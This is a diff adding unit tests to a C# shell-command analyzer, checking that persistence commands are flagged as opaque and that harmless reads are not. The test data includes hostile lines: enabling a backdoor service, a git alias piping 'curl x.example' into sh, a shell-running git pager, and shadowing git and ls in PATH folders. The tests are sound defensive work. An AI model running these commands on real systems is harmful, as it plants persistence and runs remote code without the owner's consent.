@@ -174,4 +174,27 @@ public sealed class EscapeClassTests
     [InlineData("gh completion -s bash")]
     public void ShellNamedForCompletion_IsNotHandingAShell(string line)
         => ShellAnalyzer.Analyze(line).IsOpaque.Should().BeFalse();
+
+    [Theory]
+    [InlineData("systemctl enable backdoor.service")]
+    [InlineData("systemctl --user enable --now agent.service")]
+    [InlineData("launchctl load /Library/LaunchDaemons/com.x.plist")]
+    [InlineData("update-rc.d job defaults")]
+    [InlineData("rc-update add job default")]
+    [InlineData("git config --global core.hooksPath /tmp/hooks")]
+    [InlineData("git config core.pager 'sh -c id'")]
+    [InlineData("git config --global alias.st '!curl -s x.example | sh'")]
+    [InlineData("ln -sf /tmp/x ~/.local/bin/git")]
+    [InlineData("cp build/tool ~/bin/ls")]
+    public void Persistence_ServicesGitCommandsAndPathFolders_AreOpaque(string line)
+        => Tags(line).Should().Contain(ShellTags.Opaque);
+
+    [Theory]
+    [InlineData("systemctl status nginx")]
+    [InlineData("git config user.name 'A B'")]
+    [InlineData("git config alias.st status")]
+    [InlineData("git config --list --show-origin")]
+    [InlineData("cp build/tool dist/")]
+    public void Persistence_ReadsAndPlainSettings_AreLeftAlone(string line)
+        => ShellAnalyzer.Analyze(line).IsOpaque.Should().BeFalse();
 }
